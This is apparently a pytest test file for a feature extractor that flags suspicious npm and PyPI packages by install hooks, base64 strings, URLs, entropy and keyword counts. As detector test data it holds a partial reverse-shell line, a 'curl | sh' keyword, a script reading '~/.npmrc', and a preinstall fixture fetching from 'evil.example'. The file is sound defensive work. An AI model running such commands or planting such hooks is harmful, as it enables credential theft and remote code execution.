from __future__ import annotations

import base64
import math
from collections import Counter

import numpy as np
import pytest

from conftest import PAYLOAD_B64, npm_package_files
from data.archives import Ecosystem, artifact_from_files
from service.features_service import (
    EXTENSION_COUNT,
    SCALAR_FEATURES,
    FeatureSchema,
    SchemaError,
    SchemaMismatch,
    SymbolClass,
    check_schema,
    count_base64,
    count_ips,
    count_suspicious,
    count_urls,
    detect_install_hook,
    entropy_stats,
    expand_dictionary,
    extension_census,
    extract_archive,
    extract_features,
    gl4_encode,
    homogeneity_counts,
    load_schema,
    read_keywords,
    schema_from_document,
    shannon_entropy,
    size_counts,
    symbol_ratio_stats,
    vectors_to_matrix,
)
from service.lexing_service import lex_artifact


def _npm(files: dict):
    return artifact_from_files(Ecosystem.NPM, "demo", "1.0.0", files)


# ---------------------------------------------------------------------------
# Schema
# ---------------------------------------------------------------------------

def test_default_schema_shape(schema) -> None:
    assert len(schema.extension_list) == EXTENSION_COUNT
    assert len(schema) == len(SCALAR_FEATURES) + EXTENSION_COUNT
    assert schema.names[0] == "has_install_hook"
    assert len(schema.hash) == 64


def test_schema_hash_tracks_version(schema) -> None:
    bumped = FeatureSchema(version="2.0", names=schema.names, extension_list=schema.extension_list)

    assert bumped.hash != schema.hash
    with pytest.raises(SchemaMismatch):
        check_schema(schema.hash, bumped.hash)


def test_schema_documents_are_validated(schema) -> None:
    document = schema.canonical_document()
    assert schema_from_document(document) == schema

    with pytest.raises(SchemaError):
        schema_from_document({**document, "names": list(schema.names) + ["has_install_hook"]})
    with pytest.raises(SchemaError):
        schema_from_document({**document, "extension_list": document["extension_list"][:-1]})
    with pytest.raises(SchemaError):
        schema_from_document({"version": "1.0", "names": []})


def test_load_schema_missing_file(tmp_path) -> None:
    with pytest.raises(SchemaError):
        load_schema(tmp_path / "absent.json")


# ---------------------------------------------------------------------------
# GL4 and entropy
# ---------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("text", "expected"),
    [("YmFzaA==", "ULULLUSS"), ("while", "LLLLL"), ("", ""), ("aZ9_é", "LUDSS")],
)
def test_gl4_encode(text, expected) -> None:
    assert gl4_encode(text) == expected


@pytest.mark.parametrize(
    ("pattern", "expected"),
    [("LLLLL", 0.0), ("ULULLUSS", 1.561278), ("LUDS", 2.0), ("", 0.0)],
)
def test_shannon_entropy(pattern, expected) -> None:
    assert shannon_entropy(pattern) == pytest.approx(expected, abs=1e-5)


def test_shannon_entropy_matches_frequency_formula() -> None:
    rng = np.random.default_rng(3)
    for _ in range(1000):
        pattern = "".join(rng.choice(list("LUDS"), size=int(rng.integers(1, 40))))
        counts = np.array(list(Counter(pattern).values()), dtype=float)
        p = counts / counts.sum()
        assert shannon_entropy(pattern) == pytest.approx(float(-(p * np.log2(p)).sum()), abs=1e-12)
        assert 0.0 <= shannon_entropy(pattern) <= 2.0


def test_entropy_stats() -> None:
    assert tuple(entropy_stats([])) == (0.0, 0.0, 0.0, 0.0)
    assert tuple(entropy_stats(["while"])) == (0.0, 0.0, 0.0, 0.0)

    stats = entropy_stats(["while", "YmFzaA=="])

    assert stats.mean == pytest.approx(0.780639, abs=1e-5)
    assert stats.std == pytest.approx(0.780639, abs=1e-5)
    assert stats.q3 == pytest.approx(1.170958, abs=1e-5)
    assert stats.max == pytest.approx(1.561278, abs=1e-5)


def _char_class(ch: str) -> str:
    if "a" <= ch <= "z":
        return "L"
    if "A" <= ch <= "Z":
        return "U"
    if "0" <= ch <= "9":
        return "D"
    return "S"


def _entropy_by_hand(text: str) -> float:
    pattern = [_char_class(ch) for ch in text]
    total = 0.0
    for cls in set(pattern):
        p = pattern.count(cls) / len(pattern)
        total -= p * math.log2(p)
    return total


def _upper_quartile_by_hand(values: list[float]) -> float:
    ordered = sorted(values)
    position = 0.75 * (len(ordered) - 1)
    low = math.floor(position)
    high = min(low + 1, len(ordered) - 1)
    return ordered[low] + (ordered[high] - ordered[low]) * (position - low)


def test_entropy_stats_match_a_hand_computation() -> None:
    rng = np.random.default_rng(17)
    alphabet = list("abcxyzABCXYZ0189_-/+= .éЖ\t")
    for _ in range(1000):
        strings = [
            "".join(rng.choice(alphabet, size=int(rng.integers(0, 25))))
            for _ in range(int(rng.integers(1, 12)))
        ]
        entropies = [_entropy_by_hand(s) if s else 0.0 for s in strings]
        mean = sum(entropies) / len(entropies)
        std = math.sqrt(sum((e - mean) ** 2 for e in entropies) / len(entropies))

        stats = entropy_stats(strings)

        assert stats.mean == pytest.approx(mean, abs=1e-9)
        assert stats.std == pytest.approx(std, abs=1e-9)
        assert stats.q3 == pytest.approx(_upper_quartile_by_hand(entropies), abs=1e-9)
        assert stats.max == pytest.approx(max(entropies), abs=1e-9)


def test_homogeneity_counts() -> None:
    assert homogeneity_counts(["while", "HTTP", "a1b2"]) == (2, 1)
    assert homogeneity_counts([]) == (0, 0)
    assert homogeneity_counts(["x"]) == (1, 0)


# ---------------------------------------------------------------------------
# String counters
# ---------------------------------------------------------------------------

def test_count_urls() -> None:
    assert count_urls(["see http://a.io and https://b.io/x"]) == 2
    assert count_urls(["no links"]) == 0
    assert count_urls(["HTTP://UP.example"]) == 1


def test_count_urls_inside_longer_words() -> None:
    assert count_urls(["sftp://files.example/x"]) == 1
    assert count_urls(["xhttps://a.example"]) == 1
    assert count_urls(["wss://stream.example/live"]) == 1


def test_count_ips() -> None:
    assert count_ips(["connect 10.0.0.1:4444"]) == 1
    assert count_ips(["v1.2.3.4.5 release"]) == 0
    assert count_ips(["999.1.1.1"]) == 0


def test_count_base64() -> None:
    assert count_base64([PAYLOAD_B64]) == 1
    assert count_base64(["hello world"]) == 0
    assert count_base64(["abcd"]) == 0
    assert count_base64(["abcd"], min_length=4) == 1


def test_expand_dictionary_variants() -> None:
    dictionary = expand_dictionary(["bash"])

    assert "YmFzaA==" in dictionary
    assert "onfu" in dictionary
    assert "bash" in dictionary
    assert len(expand_dictionary([])) == 0
    assert len(expand_dictionary(["bash", "bash", "  "])) == 1


def test_count_suspicious_plain_and_encoded() -> None:
    dictionary = expand_dictionary(["/dev/tcp/"])
    hidden = "prefix " + base64.b64encode(b"/dev/tcp/").decode() + " suffix"

    assert count_suspicious(["/bin/bash -i >& /dev/tcp/"], dictionary) >= 1
    assert count_suspicious([hidden], dictionary) >= 1
    assert count_suspicious(["innocuous"], dictionary) == 0


def test_count_suspicious_finds_keyword_inside_longer_base64() -> None:
    dictionary = expand_dictionary(["os.system"])

    assert count_suspicious([PAYLOAD_B64], dictionary) >= 1


def test_read_keywords_skips_comments(tmp_path) -> None:
    path = tmp_path / "words.txt"
    path.write_text("# header\n\nbash\n  curl | sh  \n", encoding="utf-8")

    assert read_keywords(path) == ["bash", "curl | sh"]
    with pytest.raises(ValueError):
        read_keywords(tmp_path / "absent.txt")


def test_default_dictionary_loads(dictionary) -> None:
    assert len(dictionary) > 50
    assert "/dev/tcp/" in dictionary.keywords


# ---------------------------------------------------------------------------
# Artifact-level features
# ---------------------------------------------------------------------------

def test_symbol_ratio_stats() -> None:
    artifact = _npm({"a.js": b"a=[1]"})

    assert tuple(symbol_ratio_stats(artifact, SymbolClass.SQUARE_BRACKETS)) == pytest.approx((0.4, 0.0, 0.4, 0.4))
    assert tuple(symbol_ratio_stats(artifact, SymbolClass.EQUALS)) == pytest.approx((0.2, 0.0, 0.2, 0.2))
    assert tuple(symbol_ratio_stats(_npm({"README.md": b"[]"}), "plus")) == (0.0, 0.0, 0.0, 0.0)


@pytest.mark.parametrize(
    ("manifest", "expected"),
    [
        (b'{"scripts":{"preinstall":"x"}}', True),
        (b'{"scripts":{"PostInstall":"x"}}', True),
        (b'{"scripts":{"test":"x"}}', False),
        (b'{"config":{"install":"x"}}', False),
        (b'{"scripts":{"install":"x"', True),
    ],
)
def test_detect_install_hook_npm(manifest, expected) -> None:
    artifact = _npm({"package.json": manifest})

    assert detect_install_hook(artifact, lex_artifact(artifact)) is expected


def test_detect_install_hook_pypi() -> None:
    with_setup = artifact_from_files(Ecosystem.PYPI, "demo", "1.0", {"demo-1.0/setup.py": b"setup()"})
    without = artifact_from_files(Ecosystem.PYPI, "demo", "1.0", {"demo/__init__.py": b""})

    assert detect_install_hook(with_setup, {})
    assert not detect_install_hook(without, {})


def test_size_counts() -> None:
    artifact = artifact_from_files(
        Ecosystem.PYPI, "demo", "1.0",
        {"setup.py": b"a b\nc", "a.py": b"x\n", "b.py": b"y z", "notes.txt": b"not counted at all"},
    )

    assert size_counts(artifact) == (3, 2, 3, 2)
    assert size_counts(_npm({})) == (0, 0, 0, 0)


def test_extension_census(schema) -> None:
    artifact = _npm({"a.js": b"", "b.js": b"", "c.exe": b"", "archive.TAR.GZ": b"", "odd.unknownext": b""})

    census = dict(zip(schema.extension_list, extension_census(artifact, schema)))

    assert census["js"] == 2
    assert census["exe"] == 1
    assert census["gz"] == 1
    assert sum(census.values()) == 4
    assert sum(extension_census(_npm({}), schema)) == 0


# ---------------------------------------------------------------------------
# Feature vectors
# ---------------------------------------------------------------------------

def test_empty_npm_package_vector(schema, dictionary) -> None:
    vector = extract_features(_npm({"package.json": b"{}"}), schema, dictionary)

    nonzero = {name: value for name, value in vector.as_dict(schema).items() if value != 0}

    assert nonzero == {"install_words": 1.0, "install_lines": 1.0, "ext_json": 1.0}
    assert vector.schema_hash == schema.hash
    assert len(vector.values) == len(schema)


def test_mal_like_npm_package_vector(schema, dictionary) -> None:
    index_js = f'const p = "{PAYLOAD_B64}";\nfetch("http://evil.example/x");\n'.encode()
    artifact = _npm({
        "package.json": b'{"scripts":{"preinstall":"node index.js"}}',
        "index.js": index_js,
    })

    values = extract_features(artifact, schema, dictionary).as_dict(schema)

    assert values["has_install_hook"] == 1
    assert values["num_base64_strings"] == 1
    assert values["num_urls"] == 1
    assert values["num_ips"] == 0
    assert values["num_suspicious_tokens"] >= 1
    assert (values["install_words"], values["install_lines"]) == (2, 1)
    assert (values["source_words"], values["source_lines"]) == (5, 2)
    assert (values["source_homogeneous_strings"], values["source_heterogeneous_strings"]) == (0, 2)
    assert (values["source_homogeneous_identifiers"], values["source_heterogeneous_identifiers"]) == (3, 0)
    assert values["source_identifier_entropy_max"] == 0
    assert values["install_string_entropy_max"] == pytest.approx(shannon_entropy(gl4_encode("node index.js")))
    assert values["equals_ratio_mean"] == pytest.approx(3 / len(index_js))
    assert values["square_brackets_ratio_max"] == 0
    assert (values["ext_js"], values["ext_json"], values["ext_md"]) == (1, 1, 0)


def test_extraction_is_deterministic(schema, dictionary, synthetic_artifacts) -> None:
    artifact, _ = synthetic_artifacts[0]
    twin = artifact_from_files(artifact.ecosystem, "twin", "9.9.9", {f.rel_path: f.content for f in artifact.files})

    first = extract_features(artifact, schema, dictionary)
    second = extract_features(twin, schema, dictionary)

    assert first == second
    assert all(math.isfinite(v) for v in first.values)


@pytest.mark.parametrize("malicious", [True, False])
def test_duplicating_every_file_doubles_counts_and_keeps_statistics(schema, dictionary, malicious) -> None:
    files = npm_package_files("twice", "1.0.0", malicious)
    doubled = {**files, **{f"copy/{name}": content for name, content in files.items()}}

    once = extract_features(_npm(files), schema, dictionary).as_dict(schema)
    twice = extract_features(_npm(doubled), schema, dictionary).as_dict(schema)

    for name, value in once.items():
        if name.endswith("_q3"):
            continue
        if name == "has_install_hook" or name.endswith(("_mean", "_std", "_max")):
            assert twice[name] == pytest.approx(value, abs=1e-9), name
        else:
            assert twice[name] == 2 * value, name


def test_suspicious_script_values_are_counted(schema, dictionary) -> None:
    artifact = _npm({"package.json": b'{"scripts":{"test":"cat ~/.npmrc"}}'})

    values = extract_features(artifact, schema, dictionary).as_dict(schema)

    assert values["has_install_hook"] == 0
    assert values["num_suspicious_tokens"] >= 1


def test_vectors_to_matrix(schema, synthetic_samples) -> None:
    matrix = vectors_to_matrix(s.feature_vector for s in synthetic_samples)

    assert matrix.shape == (len(synthetic_samples), len(schema))
    assert vectors_to_matrix([]).shape == (0, 0)


def test_extract_archive_end_to_end(make_npm_tgz, schema, dictionary) -> None:
    path = make_npm_tgz({"package.json": b'{"name":"e2e","version":"1.0.0","scripts":{"postinstall":"node x"}}',
                         "x.js": b"eval(atob('Y2hpbGRfcHJvY2Vzcw=='))"})

    result = extract_archive(path, "npm", schema, dictionary)

    assert result.artifact.name == "e2e"
    assert not result.lex_error
    assert result.vector.as_dict(schema)["has_install_hook"] == 1
